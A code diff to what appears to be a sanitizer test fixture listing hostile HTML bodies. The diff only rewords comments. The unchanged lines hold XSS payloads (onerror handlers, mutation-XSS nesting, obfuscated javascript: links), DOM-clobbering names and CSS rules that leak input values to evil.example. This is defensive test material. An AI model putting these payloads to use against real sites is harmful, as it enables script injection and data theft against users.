@@ -1,4 +1,7 @@
-/** Bodies that try to run, to load, to overlay or to pose; each is written as a server that was taken over might send it. */
+/**
+ * Bodies that try to run code, to load, to overlay or to pose; each is written as a compromised server might
+ * send it.
+ */
 export const hostileBodies: readonly string[] = [
   '<script>attacked()</script>',
   '<img src=x onerror=attacked()>',
@@ -58,7 +61,7 @@ export const hostileBodies: readonly string[] = [
   '<time datetime="not a date">x</time>',
   '<div class="app-shell toolbar modal">x</div>',
   '<p role="alert" aria-live="assertive">x</p>',
-  // Markup that becomes another when it is read twice, or by another language's rules.
+  // Markup that changes its meaning when it is read twice, or by another language's rules.
   '<math><mtext><img><style><!--</style><img title="--&gt;&lt;img src=1 onerror=attacked()&gt;">',
   '<math><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=attacked() src=1>"></textarea></svg>',
   '<math><mi></mi><table><tr><td><mtext><mglyph><style><!--</style><img src=x onerror=attacked()>--></style>',
@@ -88,11 +91,11 @@ export const hostileBodies: readonly string[] = [
   '<a href="java\u0000script:attacked()">x</a>',
   '<a href="blob:https://evil.example/1">x</a>',
   '<a href="https:evil.example\u3002\\@bank.example">x</a>',
-  // Names that would stand in for the page's own.
+  // Names that would shadow the page's own.
   '<form name="body"><input name="parentNode"></form><img name="cookie"><img name="currentScript">',
   '<a id="defaultView"></a><a id="defaultView" name="toString" href="x:y">x</a>',
   '<span id="root">x</span><div id="radix-1">x</div><p aria-labelledby="root" for="root">x</p>',
-  // Styles, and what they could fetch, cover or read.
+  // Styles, and things that they could fetch, cover or read.
   '<link rel="preload" as="image" href="https://evil.example/pixel.png"><link rel="dns-prefetch" href="//evil.example">',
   '<style>@import "https://evil.example/x.css"; input[value^=a]{background:url(https://evil.example/a)}</style>',
   '<span class="katex"><span style="background-color:red;background-image:image-set(\'https://evil.example/x\' 1x)">x</span></span>',
